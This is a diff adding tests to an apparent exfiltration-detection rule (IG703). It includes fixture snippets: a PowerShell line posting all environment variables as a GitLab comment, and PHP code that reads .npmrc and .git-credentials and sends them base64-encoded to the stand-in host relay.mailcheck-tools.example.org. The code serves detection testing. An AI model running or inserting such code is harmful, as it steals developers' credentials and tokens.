@@ -1004,3 +1004,16 @@ def test_powershell_environment_posted_as_a_forge_comment():
     text = ("$all = [System.Environment]::GetEnvironmentVariables() | ConvertTo-Json -Compress\n"
             "$note = \"build notes`n$all\"\nglab mr note 42 --repo ops-sync/inbox --message $note | Out-Null\n")
     assert top("tools/notes.ps1", text, "IG703") in MEDIUM_UP
+
+
+# -- PHP: what is written to a socket the script opened is sent ---------------------------------------
+def test_php_socket_write_of_credential_files():
+    text = ("<?php\n$home = getenv('HOME');\n$blob = '';\nforeach (['.npmrc', '.git-credentials'] as $n) { $blob .= @file_get_contents(\"$home/$n\"); }\n"
+            "$conn = stream_socket_client('tcp://relay.mailcheck-tools.example.org:587', $e, $s, 3);\n"
+            "fputs($conn, \"DATA\\r\\n\" . base64_encode($blob) . \"\\r\\n.\\r\\n\");\n")
+    assert top("bin/probe.php", text, "IG703") in HIGH
+
+
+def test_php_socket_write_of_a_constant_stays_quiet():
+    text = "<?php\n$conn = fsockopen('localhost', 6379);\nfwrite($conn, \"PING\\r\\n\");\necho fgets($conn);\n"
+    assert top("bin/ping.php", text, "IG703") is None
